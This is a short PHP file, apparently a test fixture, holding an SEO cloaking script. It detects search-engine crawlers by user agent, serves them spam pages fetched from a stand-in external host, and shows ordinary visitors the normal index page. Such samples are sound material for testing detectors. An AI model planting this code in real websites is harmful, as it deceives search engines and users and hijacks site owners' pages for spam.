<?php
// SEO cloaking through a helper: crawlers get the operator's page (written for the tests, never run)
function from_search_engine() {
    $names = array("Googlebot", "Google-InspectionTool", "bingbot", "Mediapartners-Google");
    foreach ($names as $n) {
        if (stripos($_SERVER['HTTP_USER_AGENT'], $n) !== false) {
            return true;
        }
    }
    return false;
}
if (from_search_engine()) {
    echo file_get_contents("https://spam-pages.example.test/brand/page.txt");
    exit;
}
include 'index.html';
